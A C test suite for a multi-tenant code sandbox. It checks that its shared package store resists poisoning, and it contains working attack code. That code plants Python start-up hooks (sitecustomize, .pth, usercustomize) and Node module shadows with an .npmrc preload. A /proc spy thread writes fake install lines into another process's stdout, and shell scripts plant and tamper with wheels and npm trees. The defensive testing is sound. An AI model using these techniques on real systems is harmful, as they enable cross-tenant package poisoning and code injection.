/*
 * test_sec_store.c — the package store is shared by every tenant, so nothing
 * a sandbox prints or writes may decide what gets into it, and nothing put
 * into it later may change what a spec installs (issue 9, item 1).
 *
 * Attacks, each through the real proxy, the real Docker engine and the real
 * images, against a package index of the test's own on loopback (sglibs.h)
 * that records every request, so "never fetched" is a count of zero:
 *   1. python: files planted where the library check's interpreter would
 *      run them (sitecustomize.py and a .pth in the libraries directory,
 *      usercustomize.py and a .pth in the user site) print a direct
 *      reference to an evil wheel and a name the request never gave;
 *   2. python: a thread left in the session's kernel writes those lines into
 *      the running check's stdout (/proc/<pid>/fd/1: same user), so they
 *      reach the proxy whatever the interpreter runs;
 *   3. javascript: the same with planted modules and npm settings, and a
 *      worker thread of the kernel writing into the check's stdout;
 *   4. python store pinning: a higher-versioned and a build-tagged wheel with
 *      other content dropped into the store volume beside a fetched spec (and
 *      where the old flat layout kept wheels); then a tampered file;
 *   5. javascript store pinning: another version's directory, a file dropped
 *      into a fetched spec's tree, a tampered file.
 * Each asserts that the index never served the attacker's files nor the
 * unrequested names, that another session gets the genuine package, and
 * that the service and a fresh session still work.
 *
 * Attack 1 goes through the gateway, one tenant against another; the others
 * call the proxy directly (the gateway forwards those calls unchanged and
 * adds nothing to them). Tests run in order (the store fills up).
 */
#include "sggw.h"
#include "sglibs.h"

#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define INSTALL_TIMEOUT_S 30
#define REMOVAL_S 10.0
#define INJECT_TRIES 8 /* executions the spying thread has to reach a check */

static sgtest_proxy_t *proxy;
static sggw_gateway_t *gw; /* in front of proxy, for the attacks of one tenant on another */
static char *proxy_id;
static char store_volume[128];

static char tmpdir[256];
static char wwwroot[300];
static char evilroot[320]; /* wwwroot/evil: what only the attacker names */
static sglibs_server_t *index_srv;

static char py_p[64], py_p_norm[64]; /* the genuine package */
static char py_u[64], py_u_norm[64]; /* on the index, never requested */
static char js_j[64], js_u[64];
static char evil_whl[160], evil_tgz[160];
static char attack_py[512]; /* the lines the python attacks print */
static char attack_js[512];

/* ------------------------------------------------------------------------
 * Calls
 * ------------------------------------------------------------------------ */

static json_object *run_code(const char *sid, const char *code, const char *const *libs)
{
    return sgtest_run_code(proxy, sid, code, libs, 0, NULL);
}

static json_object *run_cmd(const char *sid, const char *cmd)
{
    return sgtest_run_cmd(proxy, sid, cmd, 0, NULL);
}

static void close_session(char *sid)
{
    sgtest_close_session(proxy, proxy_id, sid, NULL, REMOVAL_S);
    free(sid);
}

/* A successful run whose stdout holds want. */
static void expect_stdout_has(json_object *r, const char *want)
{
    if (!SG_BOOL(r, "success"))
        SG_FAIL(r, "expected a successful run");
    if (strstr(SG_STR(r, "stdout"), want) == NULL)
        SG_FAIL(r, "stdout must hold \"%s\"", want);
}

/* In session sid, code (without libraries) prints `want` among its output;
 * then the session is closed. */
static void expect_prints_then_close(char *sid, const char *code, const char *want)
{
    json_object *o = run_code(sid, code, NULL);
    expect_stdout_has(o, want);
    json_object_put(o);
    close_session(sid);
}

/* Nothing the attacker named was ever asked of the index. */
static void expect_nothing_fetched(const char *when)
{
    char u[200];
    int evil = sglibs_hits(index_srv, "/evil/");
    SG_CHECK(evil == 0, NULL, "%s: the index served the attacker's files %d time(s)", when, evil);
    pathf(u, sizeof(u), "/simple/%s", py_u_norm);
    int n = sglibs_hits(index_srv, u);
    SG_CHECK(n == 0, NULL, "%s: the unrequested %s was fetched (%d request(s))", when, py_u, n);
    pathf(u, sizeof(u), "/%s", js_u);
    n = sglibs_hits(index_srv, u);
    SG_CHECK(n == 0, NULL, "%s: the unrequested %s was fetched (%d request(s))", when, js_u, n);
}

/* python: prints VALUE of py_p (and where it was imported from) */
static void py_import_code(char *code, size_t cap)
{
    pathf(code, cap, "import %s\nprint('value=' + %s.VALUE + ' version=' + %s.VERSION)", py_p, py_p, py_p);
}

/* Runs a command in a throwaway helper container on the store volume;
 * asserts it exits 0. */
static void store_run(const char *script)
{
    char *out = NULL;
    int code = sglibs_volume_run(store_volume, sgtest_image("python"), proxy_id, script, &out);
    if (code != 0) {
        fprintf(stderr, "helper output:\n%s\n", out != NULL ? out : "");
        free(out);
        SG_FAIL(NULL, "the store helper exited with %d: %s", code, script);
    }
    free(out);
}

/* The bytes of file as base64 (malloc'd). */
static char *file_base64(const char *path)
{
    FILE *f = fopen(path, "rb");
    SG_CHECK(f != NULL, NULL, "cannot open %s", path);
    unsigned char buf[65536];
    size_t n = fread(buf, 1, sizeof(buf), f);
    fclose(f);
    SG_CHECK(n > 0 && n < sizeof(buf), NULL, "%s: %zu bytes", path, n);
    char *b64 = malloc(4 * ((n + 2) / 3) + 1);
    EVP_EncodeBlock((unsigned char *)b64, buf, (int)n);
    return b64;
}

/* ------------------------------------------------------------------------
 * Fixtures
 * ------------------------------------------------------------------------ */

static sgtest_proxy_t *start_proxy(void)
{
    const char *more[] = {"SANDGATE_LOG_LEVEL=debug", NULL};
    return sglibs_proxy_start(proxy_id, index_srv, store_volume, INSTALL_TIMEOUT_S, more);
}

static int group_setup(void **state)
{
    char hex[33], file[160], *files[1];
    if (sglibs_suite_dir(tmpdir, sizeof(tmpdir), wwwroot, sizeof(wwwroot), "sgtest-secstore", hex, 6) != 0)
        return -1;
    snprintf(evilroot, sizeof(evilroot), "%s/evil", wwwroot);
    sglibs_py_names("sgsecpkg", hex, py_p, py_p_norm, sizeof(py_p));
    sglibs_py_names("sgsecunreq", hex, py_u, py_u_norm, sizeof(py_u));
    snprintf(js_j, sizeof(js_j), "sgsec-js-%s", hex);
    snprintf(js_u, sizeof(js_u), "sgsec-unreq-%s", hex);

    index_srv = sglibs_server_start(wwwroot, false);
    if (index_srv == NULL)
        return -1;
    int port = sglibs_port(index_srv);
    char init[256];

    /* genuine: what the index offers */
    snprintf(init, sizeof(init), "VALUE = 'genuine'\nVERSION = '1.0'\n");
    sglibs_wheel(wwwroot, py_p, "1.0", NULL, init, file, sizeof(file));
    files[0] = file;
    sglibs_simple_index(wwwroot, port, py_p_norm, files, 1);
    sglibs_wheel(wwwroot, py_u, "1.0", NULL, NULL, file, sizeof(file));
    sglibs_simple_index(wwwroot, port, py_u_norm, files, 1);
    sglibs_npm_package(wwwroot, port, js_j, "1.0.0", "module.exports = { value: 'genuine' };\n", file, sizeof(file));
    sglibs_npm_package(wwwroot, port, js_u, "1.0.0", "module.exports = {};\n", file, sizeof(file));

    /* evil: only the attacker's lines name these */
    snprintf(init, sizeof(init), "VALUE = 'evil'\nVERSION = '99.0'\n");
    sglibs_wheel(evilroot, py_p, "99.0", NULL, init, evil_whl, sizeof(evil_whl));
    sglibs_npm_package(evilroot, port, js_j, "9.9.9", "module.exports = { value: 'evil' };\n", evil_tgz,
                       sizeof(evil_tgz));
    snprintf(attack_py, sizeof(attack_py), "%s @ http://127.0.0.1:%d/evil/packages/%s\n%s\n", py_p, port, evil_whl,
             py_u);
    snprintf(attack_js, sizeof(attack_js), "%s@http://127.0.0.1:%d/evil/%s/-/%s\n%s\n", js_j, port, js_j, evil_tgz,
             js_u);
    printf("index: http://127.0.0.1:%d; genuine %s / %s, never requested %s / %s\n", port, py_p, js_j, py_u, js_u);

    proxy_id = sgtest_new_proxy_id();
    if (proxy_id == NULL)
        return -1;
    snprintf(store_volume, sizeof(store_volume), "%s-store", proxy_id);
    proxy = start_proxy();
    if (proxy == NULL)
        return -1;
    sggw_opts_t o = {.proxy_url = sgtest_proxy_url(proxy)};
    gw = sggw_gateway_start(&o);
    return gw != NULL ? 0 : -1;
}

static int group_teardown(void **state)
{
    int rc = 0;
    if (gw != NULL && sggw_gateway_stop(gw) != 0)
        rc = -1;
    gw = NULL;
    if (sglibs_proxy_finish(&proxy, proxy_id, store_volume, REMOVAL_S) != 0)
        rc = -1;
    sglibs_server_free(index_srv);
    sglibs_rm_tree(tmpdir);
    free(proxy_id);
    return rc;
}

static int check_proxy_alive(void **state)
{
    return sgtest_proxy_check_alive(&proxy, start_proxy);
}

static int after_gateway_test(void **state)
{
    int failed = sggw_after_test();
    return check_proxy_alive(state) != 0 || failed || !sggw_gateway_alive(gw) ? -1 : 0;
}

/* Through the gateway, as tenant tok: execute (code, libs) or a command. */
static json_object *gw_run(const char *tok, const char *sid, const char *field, const char *text,
                           const char *const *libs)
{
    char path[256];
    pathf(path, sizeof(path), "/sessions/%s/%s", sid, strcmp(field, "code") == 0 ? "execute" : "commands");
    json_object *b = json_object_new_object();
    json_object_object_add(b, field, json_object_new_string(text));
    if (libs != NULL)
        json_object_object_add(b, "libraries", sgtest_libs_array(libs));
    return sggw_post_result(gw, tok, path, b);
}

/* ------------------------------------------------------------------------
 * 1. python: planted startup files print a fetch
 * ------------------------------------------------------------------------ */

SGGW_TEST(test_py_planted_startup_files)
{
    char code[2048];
    const char *data = sggw_gateway_data_dir(gw);
    char *attacker = sggw_new_tenant(data, "store-attacker", NULL),
         *victim = sggw_new_tenant(data, "store-victim", NULL);
    char *sid = sggw_create_session(gw, attacker, "{\"lang\": \"python\"}", NULL);

    /* every place python runs code from at start-up that the sandbox user
     * can write: the libraries directory (on the old check's PYTHONPATH) and
     * the user site (HOME is /sandbox) */
    pathf(code, sizeof(code),
          "import os, site\n"
          "lines = '''%s'''\n"
          "hook = 'import sys; sys.stdout.write(%%r); sys.stdout.flush()\\n' %% lines\n"
          "libs = '/tmp/sandgate/libs/python'\n"
          "user = site.getusersitepackages()\n"
          "for d in (libs, user):\n"
          "    os.makedirs(d, exist_ok=True)\n"
          "    open(d + '/zz_sgsec.pth', 'w').write(hook)\n"
          "open(libs + '/sitecustomize.py', 'w').write(hook)\n"
          "open(user + '/usercustomize.py', 'w').write(hook)\n"
          "print('planted in', libs, 'and', user)",
          attack_py);
    json_object *o = gw_run(attacker, sid, "code", code, NULL);
    expect_stdout_has(o, "planted in");
    json_object_put(o);
    /* the planted files work: any python started the ordinary way prints them */
    o = gw_run(attacker, sid, "command", "PYTHONPATH=/tmp/sandgate/libs/python python3 -c pass", NULL);
    SG_CHECK(strstr(SG_STR(o, "stdout"), evil_whl) != NULL, o, "the planted sitecustomize.py does not run");
    json_object_put(o);
    o = gw_run(attacker, sid, "command", "python3 -c pass", NULL);
    SG_CHECK(strstr(SG_STR(o, "stdout"), evil_whl) != NULL, o, "the planted usercustomize.py does not run");
    json_object_put(o);

    /* the attack: an execute whose libraries make the check run */
    const char *libs[] = {"numpy", py_p, NULL};
    py_import_code(code, sizeof(code));
    o = gw_run(attacker, sid, "code", code, libs);
    expect_stdout_has(o, "value=genuine version=1.0");
    json_object_put(o);
    expect_nothing_fetched("after the planted start-up files");
    char whl[200];
    pathf(whl, sizeof(whl), "/packages/%s-1.0-py3-none-any.whl", py_p);
    SG_CHECK(sglibs_hits(index_srv, whl) == 1, NULL, "the genuine %s was fetched %d time(s), expected once", whl,
             sglibs_hits(index_srv, whl));
    sggw_delete_session(gw, attacker, sid);
    free(sid);
    int before = sglibs_total(index_srv);

    /* another tenant asking for the same name gets the genuine package */
    sid = sggw_create_session(gw, victim, "{\"lang\": \"python\"}", NULL);
    const char *libs2[] = {py_p, NULL};
    o = gw_run(victim, sid, "code", code, libs2);
    expect_stdout_has(o, "value=genuine version=1.0");
    SG_CHECK(strstr(SG_STR(o, "stdout"), "evil") == NULL, o, "the second session got the attacker's package");
    json_object_put(o);
    o = gw_run(victim, sid, "code", "print(6 * 7)", NULL);
    expect_stdout_has(o, "42");
    json_object_put(o);
    sggw_delete_session(gw, victim, sid);
    free(sid);
    expect_nothing_fetched("after a second session installed the package");
    SG_CHECK(sglibs_total(index_srv) == before, NULL,
             "the second session's install asked the index: the store "
             "should have served it");
    free(attacker);
    free(victim);
}

/* ------------------------------------------------------------------------
 * 2. and 3. A thread of the kernel writes into the check's stdout
 * ------------------------------------------------------------------------ */

/* Runs executions with libs until the spy (started in the session's kernel)
 * has written into a check's stdout while the check ran; fails when it never
 * did (the attack would not have been performed). */
static void until_injected(const char *sid, const char *code, const char *const *libs, const char *want)
{
    int tries = 0;
    bool landed = false;
    while (!landed && tries < INJECT_TRIES) {
        json_object *o = run_code(sid, code, libs);
        expect_stdout_has(o, want);
        json_object_put(o);
        tries++;
        o = run_cmd(sid, "cat /tmp/sgsec-injected 2>/dev/null; cat /tmp/sgsec-errors >&2 2>/dev/null; true");
        landed = strstr(SG_STR(o, "stdout"), "alive") != NULL;
        if (!landed)
            fprintf(stderr, "spy: not yet (try %d): %s %s\n", tries, SG_STR(o, "stdout"), SG_STR(o, "stderr"));
        json_object_put(o);
    }
    printf("the spy wrote into a running check's stdout after %d execution(s)\n", tries);
    SG_CHECK(landed, NULL, "the spy never reached a running check in %d executions: the attack was not performed",
             INJECT_TRIES);
}

static void test_py_injected_check_output(void **state)
{
    char code[4096], literal[700];
    int before = sglibs_total(index_srv);
    char *sid = sgtest_create_session(proxy, "python", NULL, NULL);
    pathf(literal, sizeof(literal), "b'''%s'''", attack_py);
    pathf(code, sizeof(code),
          "import os, threading, time\n"
          "LINES = %s\n"
          "def spy():\n"
          "    seen = set()\n"
          "    open('/tmp/sgsec-spy-ready', 'w').close()\n"
          "    while True:\n"
          "        for p in os.listdir('/proc'):\n"
          "            if not p.isdigit() or p in seen:\n"
          "                continue\n"
          "            try:\n"
          "                with open('/proc/%%s/cmdline' %% p, 'rb') as f:\n"
          "                    cmd = f.read()\n"
          "            except OSError:\n"
          "                continue\n"
          "            if b'sys.argv[1:]' not in cmd:\n"
          "                continue\n"
          "            seen.add(p)\n"
          "            try:\n"
          "                fd = os.open('/proc/%%s/fd/1' %% p, os.O_WRONLY)\n"
          "                os.write(fd, LINES)\n"
          "                os.close(fd)\n"
          "                state = 'alive' if os.path.exists('/proc/%%s' %% p) else 'gone'\n"
          "                with open('/tmp/sgsec-injected', 'a') as f:\n"
          "                    f.write('%%s %%s\\n' %% (p, state))\n"
          "            except OSError as e:\n"
          "                with open('/tmp/sgsec-errors', 'a') as f:\n"
          "                    f.write('%%s %%r\\n' %% (p, e))\n"
          "        time.sleep(0.0002)\n"
          "threading.Thread(target=spy, daemon=True).start()\n"
          "for _ in range(500):\n"
          "    if os.path.exists('/tmp/sgsec-spy-ready'):\n"
          "        print('spy started')\n"
          "        break\n"
          "    time.sleep(0.01)",
          literal);
    json_object *o = run_code(sid, code, NULL);
    expect_stdout_has(o, "spy started");
    json_object_put(o);

    const char *libs[] = {"numpy", NULL};
    until_injected(sid, "import numpy\nprint('ran', numpy.__name__)", libs, "ran numpy");
    expect_nothing_fetched("after lines were written into the check's output");
    SG_CHECK(sglibs_total(index_srv) == before, NULL,
             "the index was asked %d time(s) for a session that needed "
             "nothing",
             sglibs_total(index_srv) - before);
    expect_prints_then_close(sid, "print(6 * 7)", "42");
}

static void test_js_planted_and_injected(void **state)
{
    char code[4096], lines_js[700];
    char *sid = sgtest_create_session(proxy, "javascript", NULL, NULL);
    json_object *jl = json_object_new_string(attack_js);
    pathf(lines_js, sizeof(lines_js), "%s", json_object_to_json_string_ext(jl, JSON_C_TO_STRING_PLAIN));
    json_object_put(jl);

    /* modules and settings a node check would load if anything of the user's
     * were on its path: shadows of the builtins it uses in every node_modules
     * the user can write, a preload named by an .npmrc */
    pathf(code, sizeof(code),
          "const fs = require('fs');\n"
          "const hook = 'process.stdout.write(' + JSON.stringify(%s) + ');\\n';\n"
          "for (const d of ['/sandbox/node_modules', '/sandbox/.node_modules', '/sandbox/.node_libraries',\n"
          "                 '/tmp/sandgate/libs/node/node_modules'])\n"
          "  for (const m of ['fs', 'path', 'module', 'node:fs']) {\n"
          "    fs.mkdirSync(d + '/' + m, { recursive: true });\n"
          "    fs.writeFileSync(d + '/' + m + '/index.js', hook);\n"
          "    fs.writeFileSync(d + '/' + m + '.js', hook);\n"
          "  }\n"
          "fs.writeFileSync('/sandbox/sgsec-preload.js', hook);\n"
          "fs.writeFileSync('/sandbox/.npmrc', 'node-options=--require /sandbox/sgsec-preload.js\\n');\n"
          "console.log('planted');",
          lines_js);
    json_object *o = run_code(sid, code, NULL);
    expect_stdout_has(o, "planted");
    json_object_put(o);
    /* the preload works when node is asked to load it */
    o = run_cmd(sid, "node --require /sandbox/sgsec-preload.js -e 0");
    SG_CHECK(strstr(SG_STR(o, "stdout"), evil_tgz) != NULL, o, "the planted preload does not print");
    json_object_put(o);

    /* a worker thread of the kernel writes into every running check */
    pathf(code, sizeof(code),
          "const { Worker } = require('worker_threads');\n"
          "const w = new Worker(`\n"
          "const fs = require('fs');\n"
          "const LINES = ${JSON.stringify(%s)};\n"
          "const seen = new Set(), nap = new Int32Array(new SharedArrayBuffer(4));\n"
          "fs.writeFileSync('/tmp/sgsec-spy-ready', '');\n"
          "for (;;) {\n"
          "  let pids = [];\n"
          "  try { pids = fs.readdirSync('/proc'); } catch (e) {}\n"
          "  for (const p of pids) {\n"
          "    if (!/^[0-9]+$/.test(p) || seen.has(p)) continue;\n"
          "    let cmd;\n"
          "    try { cmd = fs.readFileSync('/proc/' + p + '/cmdline', 'latin1'); } catch (e) { continue; }\n"
          "    if (!cmd.includes('existsSync')) continue;\n"
          "    seen.add(p);\n"
          "    try {\n"
          "      const fd = fs.openSync('/proc/' + p + '/fd/1', fs.constants.O_WRONLY);\n"
          "      fs.writeSync(fd, LINES);\n"
          "      fs.closeSync(fd);\n"
          "      fs.appendFileSync('/tmp/sgsec-injected', p + (fs.existsSync('/proc/' + p) ? ' alive' : ' gone') + "
          "'\\\\n');\n"
          "    } catch (e) { fs.appendFileSync('/tmp/sgsec-errors', p + ' ' + e + '\\\\n'); }\n"
          "  }\n"
          "  Atomics.wait(nap, 0, 0, 0.2);\n"
          "}`, { eval: true });\n"
          "w.unref();\n"
          "const nap = new Int32Array(new SharedArrayBuffer(4));\n"
          "for (let i = 0; i < 500 && !require('fs').existsSync('/tmp/sgsec-spy-ready'); i++) Atomics.wait(nap, 0, 0, "
          "10);\n"
          "if (require('fs').existsSync('/tmp/sgsec-spy-ready')) console.log('spy started');",
          lines_js);
    o = run_code(sid, code, NULL);
    expect_stdout_has(o, "spy started");
    json_object_put(o);

    const char *libs[] = {js_j, NULL};
    char use[256];
    pathf(use, sizeof(use), "console.log('value=' + require('%s').value)", js_j);
    until_injected(sid, use, libs, "value=genuine");
    expect_nothing_fetched("after the javascript attack");
    char tgz[300];
    pathf(tgz, sizeof(tgz), "/%s/-/%s-1.0.0.tgz", js_j, js_j);
    SG_CHECK(sglibs_hits(index_srv, tgz) == 1, NULL, "the genuine %s was fetched %d time(s), expected once", tgz,
             sglibs_hits(index_srv, tgz));
    close_session(sid);

    /* another tenant gets the genuine package, from the store */
    int before = sglibs_total(index_srv);
    sid = sgtest_create_session(proxy, "javascript", NULL, NULL);
    o = run_code(sid, use, libs);
    expect_stdout_has(o, "value=genuine");
    json_object_put(o);
    close_session(sid);
    expect_nothing_fetched("after a second session installed the package");
    SG_CHECK(sglibs_total(index_srv) == before, NULL,
             "the second session's install asked the index: the store "
             "should have served it");
}

/* ------------------------------------------------------------------------
 * 4. python: the store pins a spec to the files it was fetched as
 * ------------------------------------------------------------------------ */

/* The store entry of name version tampered with by `script` (store_run());
 * then, in a new session of lang (*sid), its install fails by the store
 * alone: no installer was started (why: what it means when one was), and
 * the message holds `says` (in any case when nocase). Its result. */
static json_object *tampered_install(char **sid, const char *script, const char *lang, const char *name,
                                     const char *version, const char *why, const char *says, bool nocase)
{
    store_run(script);
    *sid = sgtest_create_session(proxy, lang, NULL, NULL);
    sglibs_wall_t t0 = sglibs_wall_now();
    json_object *o = sglibs_install(proxy, *sid, name, version, NULL);
    SG_CHECK(sglibs_installers_created_since(proxy_id, t0) == 0, NULL, "%s", why);
    SG_CHECK(!SG_BOOL(o, "success"), o, "a tampered store file was installed");
    const char *msg = SG_STR(o, "message");
    SG_CHECK((nocase ? strcasestr(msg, says) : strstr(msg, says)) != NULL, o,
             "the message must say the hash does not match (\"%s\")", says);
    return o;
}

/* Nothing of the tampered spec was installed: code that uses it fails with
 * `error` on stderr. */
static void expect_nothing_installed(const char *sid, const char *code, const char *error)
{
    json_object *o = run_code(sid, code, NULL);
    SG_CHECK(!SG_BOOL(o, "success") && strstr(SG_STR(o, "stderr"), error) != NULL, o,
             "nothing of the tampered spec may be installed");
    json_object_put(o);
}

static void test_py_store_pinning(void **state)
{
    char code[512], script[16384], spec[128], wheels[400];
    char build_whl[160], high_whl[160], path[600];
    py_import_code(code, sizeof(code));
    pathf(spec, sizeof(spec), "%s==1.0", py_p);

    /* session A: the spec is fetched */
    char *sid = sgtest_create_session(proxy, "python", NULL, NULL);
    json_object *o = sglibs_install(proxy, sid, py_p, "1.0", NULL);
    sglibs_expect_installed(o, "1.0", false);
    json_object_put(o);
    close_session(sid);
    o = NULL;

    /* another tenant's wheels, with other content, land beside it: a
     * build-tagged 1.0 (pip prefers it to the untagged one) and a 9.0, in
     * the spec's directory, in the bare name's, and where the flat layout
     * kept wheels */
    pathf(wheels, sizeof(wheels), "%s/drop", tmpdir);
    char init[128];
    pathf(init, sizeof(init), "VALUE = 'evil'\nVERSION = 'dropped'\n");
    sglibs_wheel(wheels, py_p, "1.0", "1", init, build_whl, sizeof(build_whl));
    sglibs_wheel(wheels, py_p, "9.0", NULL, init, high_whl, sizeof(high_whl));
    pathf(path, sizeof(path), "%s/packages/%s", wheels, build_whl);
    char *b1 = file_base64(path);
    pathf(path, sizeof(path), "%s/packages/%s", wheels, high_whl);
    char *b2 = file_base64(path);
    pathf(script, sizeof(script),
          "set -e; s=/opt/sandgate/store/pip; ls \"$s/%s/MANIFEST\" >/dev/null\n"
          "for d in \"$s/%s\" \"$s/%s\" \"$s\"; do mkdir -p \"$d\"\n"
          "  echo '%s' | base64 -d > \"$d/%s\"\n"
          "  echo '%s' | base64 -d > \"$d/%s\"\n"
          "done",
          spec, spec, py_p, b1, build_whl, b2, high_whl);
    free(b1);
    free(b2);
    store_run(script);

    /* session B: the same spec, from the store, is exactly what A got */
    int before = sglibs_hits(index_srv, "");
    sid = sgtest_create_session(proxy, "python", NULL, NULL);
    o = sglibs_install(proxy, sid, py_p, "1.0", NULL);
    sglibs_expect_installed(o, "1.0", true);
    json_object_put(o);
    expect_prints_then_close(sid, code, "value=genuine version=1.0");
    /* the bare name's spec (test 1 fetched it) too */
    sid = sgtest_create_session(proxy, "python", NULL, NULL);
    const char *libs[] = {py_p, NULL};
    o = run_code(sid, code, libs);
    expect_stdout_has(o, "value=genuine version=1.0");
    json_object_put(o);
    close_session(sid);
    SG_CHECK(sglibs_hits(index_srv, "") == before, NULL, "the index was asked for a spec in the store");

    /* a file of the spec changed after its fetch: the install refuses it */
    pathf(script, sizeof(script),
          "set -e; d='/opt/sandgate/store/pip/%s'; f=\"$d/%s-1.0-py3-none-any.whl\"; "
          "test -f \"$f\"; printf 'tampered' >> \"$f\"",
          spec, py_p);
    json_object_put(tampered_install(&sid, script, "python", py_p, "1.0",
                                     "a hash mismatch sent the spec to an installer: only a missing spec is fetched",
                                     "hash", true));
    pathf(code, sizeof(code), "import %s", py_p);
    expect_nothing_installed(sid, code, "ModuleNotFoundError");
    /* the session is fine */
    expect_prints_then_close(sid, "print(6 * 7)", "42");
    expect_nothing_fetched("after the store pinning attacks");
}

/* ------------------------------------------------------------------------
 * 5. javascript: the same
 * ------------------------------------------------------------------------ */

static json_object *js_install_fresh(const char *version, char **sid_out)
{
    char *sid = sgtest_create_session(proxy, "javascript", NULL, NULL);
    json_object *o = sglibs_install(proxy, sid, js_j, version, NULL);
    *sid_out = sid;
    return o;
}

static void test_js_store_pinning(void **state)
{
    char use[256], script[4096], *sid;
    pathf(use, sizeof(use), "console.log('value=' + require('%s').value)", js_j);

    json_object *o = js_install_fresh("1.0.0", &sid);
    sglibs_expect_installed(o, "1.0.0", false);
    json_object_put(o);
    close_session(sid);

    /* another version's directory beside it, complete with a manifest */
    pathf(script, sizeof(script),
          "set -e; s=/opt/sandgate/store/npm; test -f \"$s/%s@1.0.0/MANIFEST\"\n"
          "d=\"$s/%s@9.9.9\"; mkdir -p \"$d/node_modules/%s\"; cd \"$d\"\n"
          "echo '{\"name\":\"%s\",\"version\":\"9.9.9\",\"main\":\"index.js\"}' > node_modules/%s/package.json\n"
          "echo \"module.exports = { value: 'evil' };\" > node_modules/%s/index.js\n"
          "find node_modules -type f -print0 | xargs -0 sha256sum > MANIFEST",
          js_j, js_j, js_j, js_j, js_j, js_j);
    store_run(script);
    o = js_install_fresh("1.0.0", &sid);
    sglibs_expect_installed(o, "1.0.0", true);
    json_object_put(o);
    expect_prints_then_close(sid, use, "value=genuine");

    /* a file dropped into the spec's tree: node would resolve it from there */
    pathf(script, sizeof(script),
          "set -e; d='/opt/sandgate/store/npm/%s@1.0.0/node_modules/%s'; test -f \"$d/index.js\"; "
          "echo \"module.exports = { value: 'evil' };\" > \"$d/index\"",
          js_j, js_j);
    store_run(script);
    o = js_install_fresh("1.0.0", &sid);
    SG_CHECK(!SG_BOOL(o, "success"), o, "a tree with a file its fetch did not record was installed");
    SG_CHECK(strstr(SG_STR(o, "message"), "was not there when it was fetched") != NULL, o,
             "the message must name the file that does not belong");
    json_object_put(o);
    close_session(sid);

    /* a file of the spec changed */
    pathf(script, sizeof(script),
          "set -e; d='/opt/sandgate/store/npm/%s@1.0.0/node_modules/%s'; rm \"$d/index\"; "
          "echo \"module.exports = { value: 'evil' };\" > \"$d/index.js\"",
          js_j, js_j);
    json_object_put(tampered_install(&sid, script, "javascript", js_j, "1.0.0",
                                     "a bad store entry sent the spec to an installer: only a missing spec is fetched",
                                     "sha256", false));
    expect_nothing_installed(sid, use, "Cannot find module");
    close_session(sid);
    expect_nothing_fetched("after the npm store pinning attacks");
}

/* ------------------------------------------------------------------------
 * 6. Afterwards: the service works, fresh sessions install
 * ------------------------------------------------------------------------ */

static void test_zz_service_still_works(void **state)
{
    char code[512];
    char *sid = sgtest_create_session(proxy, "python", NULL, NULL);
    const char *libs[] = {py_p, NULL};
    py_import_code(code, sizeof(code));
    json_object *o = run_code(sid, code, libs);
    expect_stdout_has(o, "value=genuine version=1.0");
    json_object_put(o);
    close_session(sid);
    o = sgtest_run_ephemeral(proxy, "javascript", "console.log(6 * 7)", NULL, 0, NULL);
    expect_stdout_has(o, "42");
    json_object_put(o);
    expect_nothing_fetched("at the end");
    SG_CHECK(sglibs_installers_now(proxy_id) == 0, NULL, "installer containers remain");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown(test_py_planted_startup_files, after_gateway_test),
        cmocka_unit_test_teardown(test_py_injected_check_output, check_proxy_alive),
        cmocka_unit_test_teardown(test_js_planted_and_injected, check_proxy_alive),
        cmocka_unit_test_teardown(test_py_store_pinning, check_proxy_alive),
        cmocka_unit_test_teardown(test_js_store_pinning, check_proxy_alive),
        cmocka_unit_test_teardown(test_zz_service_still_works, check_proxy_alive),
    };
    return cmocka_run_group_tests_name("sec_store", tests, group_setup, group_teardown);
}
